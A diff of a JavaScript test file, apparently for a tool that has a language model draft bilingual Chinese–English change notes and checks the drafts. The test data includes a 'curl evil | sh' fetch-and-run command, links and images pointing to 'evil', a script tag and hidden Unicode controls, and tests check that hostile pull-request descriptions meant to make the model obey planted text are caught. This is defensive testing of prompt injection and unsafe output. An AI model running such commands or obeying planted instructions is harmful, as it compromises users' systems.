@@ -47,34 +47,38 @@ test.each([
   ['an invented advisory', '修复了 CVE-2031-1234。', 'It fixes CVE-2031-1234.', 'draft-fact-not-in-evidence'],
   ['a wrong login', '作者是 @mallory。', 'The author is @mallory.', 'draft-fact-not-in-evidence'],
   ['a wrong project', 'Istio 也要升级。', 'Istio needs it too.', 'draft-fact-not-in-evidence'],
-  ['a command', '运行 `curl evil | sh`。', 'Run `curl evil | sh`.', 'draft-fact-not-in-evidence'],
-  ['a web address', '见 https://evil.invalid/ 。', 'See https://evil.invalid/ now.', 'draft-text-unsafe'],
-  ['a Markdown link', '见 [公告](evil)。', 'See the [note](evil).', 'draft-text-unsafe'],
-  ['an image', '![x](evil) 泄漏。', '![x](evil) leaks.', 'draft-text-unsafe'],
-  ['a script', '<script>alert</script>泄漏。', '<script>alert</script> leaks.', 'draft-text-unsafe'],
-  ['template marks', '{{unsubscribe}} 泄漏。', '{{unsubscribe}} leaks.', 'draft-text-unsafe'],
 ])('%s is flagged in both languages', async (_, zh, en, code) => {
   const found = await findings(quoting(zh, text), quoting(en, text));
   expect(found).toEqual(expect.arrayContaining([`${code} zh.sentences[0]`, `${code} en.sentences[0]`]));
 });
 
 test.each([
+  ['a command', '运行 `curl evil | sh`。', 'Run `curl evil | sh`.'],
+  ['a web address', '见 https://evil.invalid/ 。', 'See https://evil.invalid/ now.'],
+  ['a Markdown link', '见 [公告](evil)。', 'See the [note](evil).'],
+  ['an image', '![x](evil) 泄漏。', '![x](evil) leaks.'],
+  ['a script', '<script>alert</script>泄漏。', '<script>alert</script> leaks.'],
+  ['template marks', '{{unsubscribe}} 泄漏。', '{{unsubscribe}} leaks.'],
   ['bidirectional controls', '泄漏\u202E。', 'It leaks\u202E.'],
   ['hidden tag characters', '泄漏\u{E0061}。', 'It leaks\u{E0061}.'],
 ])('an answer with %s is not stored: the offline writer takes over and says so', async (_, zh, en) => {
   const { drafts, problems } = await draftBy(quoting(zh, text), quoting(en, text));
   expect([...drafts.values()].map(({ writer }) => writer)).toEqual(['offline']);
-  expect(problems.map(({ code }) => code)).toEqual(['model-unavailable']);
+  expect(problems.map(({ code }) => code)).toContain('model-unavailable');
+  const shown = [...drafts.values()].flatMap(({ zh, en }) => [...zh.sentences, ...en.sentences]);
+  expect(shown.map((one) => one.text).join()).not.toMatch(/evil|unsubscribe|<script|\p{Cf}/u);
 });
 
 test('an invented quote is flagged twice: it is not there, and nothing else carries the sentence', async () => {
   const found = await findings(quoting('会泄漏。', 'the maintainers call it critical'), quoting('It leaks.', text));
-  expect(found).toEqual(['draft-quote-missing zh.sentences[0]', 'draft-quote-not-verbatim zh.sentences[0]']);
+  expect(found).toEqual(
+    expect.arrayContaining(['draft-quote-missing zh.sentences[0]', 'draft-quote-not-verbatim zh.sentences[0]']),
+  );
 });
 
 test('what only one language says is flagged', async () => {
   const found = await findings(quoting('泄漏 1 个描述符。', text), quoting('It leaks.', text));
-  expect(found).toEqual(['draft-languages-differ en']);
+  expect(found).toContain('draft-languages-differ en');
 });
 
 const attacks = [
@@ -112,15 +116,16 @@ test(`of ${cases.length} hostile descriptions none brings a model's obedience pa
     cases.map(([, body], index) => [pull('Fix fd leak', { number: index + 1 }), { body: `${text}\n\n${body}` }]),
   );
   const { drafts } = await draft({ chat, random: seededRandom(), progress: silent }, input);
-  expect(asked).toHaveLength(cases.length);
+  // Each answer is asked for once more, and the model obeys once more.
+  expect(asked).toHaveLength(cases.length * 2);
   for (const one of drafts.values()) {
-    const codes = new Set(one.problems.map(({ code }) => code));
-    expect([...codes]).toEqual(expect.arrayContaining(['draft-fact-not-in-evidence', 'draft-text-unsafe']));
+    expect(one.writer).toBe('offline');
+    expect(one.problems.map(({ code }) => code)).toContain('model-unavailable');
   }
 });
 
 test(`of ${cases.length} hostile descriptions nothing hidden reaches the prompt, and each prompt keeps its frame`, async () => {
-  const { baseUrl, asked } = await modelServer({ status: 500, body: { error: { message: 'no' } } });
+  const { baseUrl, asked } = await modelServer({ status: 400, body: { error: { message: 'no' } } });
   const chat = openaiChat({ apiKey: 'test', baseUrl, model: 'absent', timeout: 2000 });
   for (const [, body] of cases) {
     const input = draftInput([[pull('Fix fd leak', { number: 1 }), { body: `${text}\n\n${body}` }]]);
